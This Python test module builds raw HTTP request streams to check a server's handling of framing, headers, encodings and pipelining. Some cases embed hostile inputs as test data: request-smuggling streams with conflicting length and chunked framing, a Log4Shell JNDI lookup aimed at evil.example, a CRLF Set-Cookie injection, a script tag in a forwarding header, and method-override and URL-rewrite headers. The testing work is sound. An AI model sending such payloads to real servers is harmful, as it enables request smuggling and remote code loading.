"""HTTP framing: bytes on the wire that proxies and servers read differently, or that are no HTTP at all.

What the server refuses before it is a request (RFC 9112) has no problem document: it knows no application.
"""

import gzip
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.corpus.cases import ADDRESS, body_of

CATEGORY = "framing"
SERVER = ""
"""Code of a refusal by the server itself, whose body is empty."""


@dataclass(frozen=True)
class Frame:
    """Bytes for one connection, and the statuses and codes of all answers before it is closed.

    ``{key}`` in ``raw`` stands for the sender's key. ``stored``: the bodies that must be stored, byte for
    byte, and no others. ``cut``: whether our half of the connection is closed behind the bytes.
    """

    name: str
    raw: bytes
    answers: tuple[tuple[int, str], ...]
    stored: tuple[bytes, ...] = ()
    cut: bool = False


def _body(name: str) -> bytes:
    return body_of(f"framing {name}")


def _request(
    body: bytes,
    *more: str,
    method: str = "POST",
    target: str = ADDRESS,
    version: str = "HTTP/1.1",
    host: str | None = "desk.example",
    media_type: str | None = "application/json",
    key: bool = True,
    length: bool = True,
    close: bool = True,
) -> bytes:
    """A whole request; ``more`` are header lines."""
    lines = [f"{method} {target} {version}"]
    lines += [f"Host: {host}"] if host is not None else []
    lines += [f"Content-Type: {media_type}"] if media_type is not None else []
    lines += ["Authorization: Bearer {key}"] if key else []
    lines += [*more]
    lines += [f"Content-Length: {len(body)}"] if length else []
    lines += ["Connection: close"] if close else []
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body


def _chunks(body: bytes, *, end: bytes = b"0\r\n\r\n", extension: bytes = b"") -> bytes:
    """The body in two chunks."""
    half = len(body) // 2
    first, second = body[:half], body[half:]
    return b"".join(b"%x%b\r\n%b\r\n" % (len(part), extension, part) for part in (first, second)) + end


def _taken(name: str, *more: str, sent: bytes | None = None, **changes: object) -> Frame:
    """One request that is stored although it looks odd."""
    body = _body(name)
    raw = _request(body if sent is None else sent, *more, **changes)  # type: ignore[arg-type]
    return Frame(name, raw, ((201, ""),), (body,))


def _refused(
    name: str, status: int, code: str, *more: str, sent: bytes | None = None, **changes: object
) -> Frame:
    raw = _request(_body(name) if sent is None else sent, *more, **changes)  # type: ignore[arg-type]
    return Frame(name, raw, ((status, code),))


CHUNKED = "Transfer-Encoding: chunked"


def _lengths() -> Iterator[Frame]:
    """Where does the body end? (RFC 9112, section 6)"""
    for name, line in {
        "two lengths": "Content-Length: 5",
        "length and list": "Content-Length: 5, 5",
        "negative length": "Content-Length: -1",
        "length with a plus": "Content-Length: +9",
        "length in letters": "Content-Length: ten",
        "length in hex": "Content-Length: 0x10",
        "length beyond 64 bits": "Content-Length: 18446744073709551617",
    }.items():
        yield _refused(name, 400, SERVER, line, length=name == "two lengths")
    yield _refused("length beyond the limit", 413, "too_large", "Content-Length: 16777217", length=False)
    body = _body("one length twice")
    yield _taken("one length twice", f"Content-Length: {len(body)}")
    yield _refused("no length and no body", 400, "not_strict_json", sent=b"", length=False)
    yield _refused("length 0 and a body behind", 400, "not_strict_json", "Content-Length: 0", length=False)
    cut = _request(_body("cut before its length"), "Content-Length: 5000", length=False)
    yield Frame("cut before its length", cut, ((400, "bad_request"),), cut=True)
    body = _body("more than its length")
    raw = _request(body, close=False) + b"GARBAGE\r\n\r\n"
    yield Frame("more than its length", raw, ((201, ""), (400, SERVER)), (body,))


def _codings() -> Iterator[Frame]:
    """Transfer codings, and both ways at once: never two readings of one stream."""

    def chunked(name: str, *more: str, **changes: object) -> Frame:
        return _taken(name, *(more or (CHUNKED,)), sent=_chunks(_body(name)), length=False, **changes)

    yield chunked("chunked")
    yield chunked("chunked in capitals", "Transfer-Encoding: CHUNKED")
    yield chunked("chunked behind a tab", "Transfer-Encoding:\tchunked")
    extension = _chunks(_body("chunk extension"), extension=b';name="a\tb"')
    yield _taken("chunk extension", CHUNKED, sent=extension, length=False)
    trailer = _chunks(_body("trailers"), end=b"0\r\nContent-Length: 5\r\nAuthorization: Bearer x\r\n\r\n")
    yield _taken("trailers", CHUNKED, sent=trailer, length=False)
    for name, line in {
        "unknown coding": "Transfer-Encoding: xchunked",
        "identity": "Transfer-Encoding: identity",
        "chunked is not the last": "Transfer-Encoding: chunked, gzip",
        "two lines, chunked first": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "coding with a control": "Transfer-Encoding: \x0bchunked",
    }.items():
        yield _refused(name, 400, SERVER, line, sent=_chunks(_body(name)), length=False)
    yield _refused(
        "chunked in 1.0", 400, SERVER, CHUNKED, sent=_chunks(_body("1.0")), length=False, version="HTTP/1.0"
    )
    for name, chunks in {
        "chunk size in letters": b"zz\r\n{}\r\n0\r\n\r\n",
        "negative chunk size": b"-2\r\n{}\r\n0\r\n\r\n",
        "chunk size beyond 64 bits": b"10000000000000002\r\n{}\r\n0\r\n\r\n",
        "chunk without line break": b"2\r\n{}X\r\n0\r\n\r\n",
        "chunk size with 0x": b"0x2\r\n{}\r\n0\r\n\r\n",
        "chunk size of line feed only": b"2\n{}\n0\n\n",
    }.items():
        raw = _request(chunks.replace(b"{}", b"{ "), CHUNKED, length=False)
        yield Frame(name, raw, ((400, "not_strict_json"),))
    cut = _request(b"ffff\r\n" + _body("chunk cut off")[:-3], CHUNKED, length=False)
    yield Frame("chunk cut off", cut, ((400, "not_strict_json"),), cut=True)
    smuggled = _request(_body("smuggled"))
    body = _body("chunked and a length")
    raw = _request(_chunks(body) + smuggled, CHUNKED, close=False)
    yield Frame("chunked and a length", raw, ((201, ""),), (body,))
    body = _body("a length of 0 and chunked")
    raw = _request(_chunks(body) + smuggled, "Content-Length: 0", CHUNKED, length=False, close=False)
    yield Frame("a length of 0 and chunked", raw, ((201, ""),), (body,))


def _headers() -> Iterator[Frame]:
    for name, line in {
        "space before the colon": "X-Odd : a",
        "space before the colon of the length": "Content-Length : 9",
        "folded header": "X-Odd: a\r\n b",
        "nul in a header": "X-Odd: a\0b",
        "bare carriage return": "X-Odd: a\rb",
        "header without a name": ": a",
        "header without a colon": "X-Odd",
        "letters beyond ascii in a name": "X-\xd6dd: a",
    }.items():
        yield _refused(name, 400, SERVER, line)
    yield _refused("a mebibyte of header", 431, SERVER, "X-Odd: " + "a" * 2**20)
    yield _refused("five hundred headers", 431, SERVER, *["X-Odd: a"] * 500)
    yield _taken("ninety headers", *["X-Odd: a"] * 90)
    yield _refused("no host", 400, "bad_request", host=None)
    yield _refused("two hosts", 400, "bad_request", "Host: other.example")
    yield _refused("empty host", 400, "bad_request", host="")
    yield _refused("host with a path", 400, "bad_request", host="a.example/x@desk.example")
    yield _taken("no host in 1.0", host=None, version="HTTP/1.0")
    yield _taken("host with a port", host="desk.example:8000")
    yield _taken("host an address", host="[::1]:8000")
    for name, line in {
        "forwarded by a liar": "X-Forwarded-For: 127.0.0.1, <script>",
        "forwarded host": "X-Forwarded-Host: evil.example",
        "rewritten address": "X-Original-URL: /admin\r\nX-Rewrite-URL: /admin",
        "method override": "X-HTTP-Method-Override: DELETE\r\nX-Method-Override: GET\r\nX-HTTP-Method: PUT",
        "upgrade to http/2": "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
        "expects something else": "Expect: magic",
        "a range": "Range: bytes=0-1",
        "a condition": 'If-Match: "x"\r\nIf-Modified-Since: never',
        "escape sequences": "User-Agent: \x80\xff${jndi:ldap://evil.example/a} %0d%0aSet-Cookie: a=b",
    }.items():
        yield _taken(name, *line.split("\r\n"))
    body = _body("expects 100")
    yield Frame("expects 100", _request(body, "Expect: 100-continue"), ((201, ""),), (body,))
    yield _refused("another key behind", 401, "key_not_valid", "Authorization: Bearer other")
    yield _refused(
        "another key before",
        401,
        "key_not_valid",
        "Authorization: Bearer x",
        "Authorization: Bearer {key}",
        key=False,
    )
    yield _refused(
        "key as a parameter", 401, "key_required", key=False, target=f"{ADDRESS}?access_token={{key}}"
    )
    yield _refused("key under another name", 401, "key_required", "Authorization_: Bearer {key}", key=False)
    yield _refused("key of no letters", 401, "key_required", "Authorization: Bearer \u00bf\u00bf", key=False)
    yield _refused("basic", 401, "key_required", "Authorization: Basic YTpi", key=False)
    yield _refused("two keys of repetition", 400, "bad_request", "Idempotency-Key: a", "Idempotency-Key: b")


def _lines() -> Iterator[Frame]:
    """The request line, and methods."""
    yield _refused("method in small letters", 405, "method_not_allowed", method="post")
    for method in ("PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "BREW", "PROPFIND"):
        yield _refused(f"method {method}", 405, "method_not_allowed", method=method)
    yield _taken("override in the query", target=f"{ADDRESS}?_method=DELETE&method=GET")
    yield _taken("escaped letters in the path", target="/api/v1/%72eferrals")
    yield _taken("absolute target", target=f"http://evil.example{ADDRESS}")
    for name, target in {
        "dots in the path": "/api/v1/../v1/referrals",
        "escaped nul in the path": f"{ADDRESS}%00",
        "semicolon": f"{ADDRESS};a=b",
        "slash at the end": f"{ADDRESS}/",
        "escaped bytes": "/api/v1/%ff%fe",
        "eight thousand letters": "/api/v1/" + "a" * 8_000,
    }.items():
        yield _refused(name, 404, "not_found", target=target)
    yield _refused("path of 70 000 letters", 414, SERVER, target=f"{ADDRESS}/" + "a" * 70_000)
    yield _refused("raw bytes in the path", 400, SERVER, target=f"{ADDRESS}\xff")
    yield _refused("space in the path", 400, SERVER, target=f"{ADDRESS} x")
    for version in ("HTTP/1.2", "HTTP/9.9", "HTTP/0.9", "HTTP/1.1x", "http/1.1", "ICAP/1.0"):
        yield _refused(f"version {version}", 400, SERVER, version=version)
    yield Frame("no version", b"GET /api/v1/referrals\r\n\r\n", ((400, SERVER),))
    yield Frame(
        "a greeting in tls", b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + b"\0" * 160, ((400, SERVER),)
    )
    yield Frame("bytes", bytes(range(256)) + b"\r\n\r\n", ((400, SERVER),))
    body = _body("empty lines first")
    yield Frame("empty lines first", b"\r\n\r\n" + _request(body), ((201, ""),), (body,))
    yield Frame("nothing", b"", (), cut=True)
    yield Frame("half a line", b"POST /api/v1/ref", (), cut=True)


def _bodies() -> Iterator[Frame]:
    """Media types and encodings of the body."""
    wrong = {
        "no media type": None,
        "text": "text/plain",
        "form": "application/x-www-form-urlencoded",
        "multipart without boundary": "multipart/form-data",
        "multipart with a bad boundary": 'multipart/form-data; boundary="\x80;',
        "json of lines": "application/x-ndjson",
        "json of something": "application/vnd.api+json",
        "nearly json": "application/jsonx",
        "latin-1": "application/json; charset=iso-8859-1",
        "utf-16 declared": "application/json; charset=utf-16",
    }
    for name, media_type in wrong.items():
        yield _refused(name, 415, "unsupported_media_type", media_type=media_type)
    yield _taken("json in capitals", media_type="APPLICATION/JSON; CHARSET=UTF-8")
    yield _taken("json with a parameter", media_type='application/json; version="1"')
    packed = gzip.compress(_body("gzip"), mtime=0)
    gone = 415, "unsupported_media_type"
    yield _refused("gzip", *gone, "Content-Encoding: gzip", sent=packed)
    yield _refused("gzip undeclared", 400, "not_strict_json", sent=packed)
    yield _refused("gzip declared only", *gone, "Content-Encoding: gzip")
    yield _refused("deflate", *gone, "Content-Encoding: deflate", sent=zlib.compress(b"{}"))
    yield _refused("unknown encoding", *gone, "Content-Encoding: magic")
    yield _refused("identity and gzip", *gone, "Content-Encoding: identity", "Content-Encoding: gzip")
    yield _taken("encoding identity", "Content-Encoding: identity")
    yield _refused("utf-16", 400, "not_strict_json", sent=_body("utf-16").decode().encode("utf-16"))
    multipart = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + _body("part") + b"\r\n--x--\r\n"
    yield _refused("multipart as json", 400, "not_strict_json", sent=multipart)
    yield _refused("html wanted", 406, "not_acceptable", "Accept: text/html")
    yield _refused("nothing wanted", 406, "not_acceptable", "Accept: application/json;q=0")
    yield _taken("anything wanted", "Accept: text/html, */*;q=0.1")


def _pipelines() -> Iterator[Frame]:
    first, second = _body("pipelined 1"), _body("pipelined 2")
    raw = _request(first, close=False) + _request(second)
    yield Frame("two at once", raw, ((201, ""), (201, "")), (first, second))
    good = _body("pipelined behind a bad one")
    raw = _request(b"{", close=False) + _request(good)
    yield Frame("a bad one first", raw, ((400, "not_strict_json"), (201, "")), (good,))
    good = _body("pipelined behind no key")
    raw = _request(_body("x"), close=False, key=False) + _request(good)
    yield Frame("one without key first", raw, ((401, "key_required"), (201, "")), (good,))
    good = _body("pipelined before none")
    raw = _request(good, close=False) + _request(_body("y"), key=False)
    yield Frame("one without key second", raw, ((201, ""), (401, "key_required")), (good,))
    many = [_body(f"pipelined {number} of ten") for number in range(10)]
    raw = b"".join(_request(body, close=False) for body in many[:-1]) + _request(many[-1])
    yield Frame("ten at once", raw, ((201, ""),) * 10, tuple(many))


def _batches() -> Iterator[Frame]:
    """Many at once: the stream is framed like any other body, and a cut one is told from a whole one."""

    def lines(name: str) -> tuple[bytes, bytes]:
        return _body(f"batch {name} 1"), _body(f"batch {name} 2")

    def frame(
        name: str,
        sent: bytes,
        status: int,
        code: str = "",
        *more: str,
        stored: int = 0,
        cut: bool = False,
        length: bool = True,
    ) -> Frame:
        raw = _request(
            sent, *more, target=f"{ADDRESS}/batch", media_type="application/x-ndjson", length=length
        )
        return Frame(f"batch {name}", raw, ((status, code),), lines(name)[:stored], cut)

    def both(name: str) -> bytes:
        return b"".join(line + b"\n" for line in lines(name))

    yield frame("with a length", both("with a length"), 200, stored=2)
    yield frame("chunked", _chunks(both("chunked")), 200, "", CHUNKED, stored=2, length=False)
    packed = _chunks(gzip.compress(both("chunked gzip"), mtime=0))
    yield frame("chunked gzip", packed, 200, "", CHUNKED, "Content-Encoding: gzip", stored=2, length=False)
    sent = both("cut before its length")
    yield frame(
        "cut before its length", sent, 400, "bad_request", "Content-Length: 9000", cut=True, length=False
    )
    sent = b"ffff\r\n" + both("chunk cut inside a line")[:-9]
    yield frame("chunk cut inside a line", sent, 400, "bad_request", CHUNKED, cut=True, length=False)
    packed = gzip.compress(both("chunked gzip, cut"), mtime=0)[:-9]
    sent = b"%x\r\n%b\r\n" % (len(packed), packed)
    yield frame(
        "chunked gzip, cut",
        sent,
        400,
        "bad_request",
        CHUNKED,
        "Content-Encoding: gzip",
        cut=True,
        length=False,
    )
    sent = b"zz\r\n" + both("chunk size in letters")
    yield frame("chunk size in letters", sent, 422, "empty_batch", CHUNKED, length=False)


FRAMES = (*_lengths(), *_codings(), *_headers(), *_lines(), *_bodies(), *_pipelines(), *_batches())
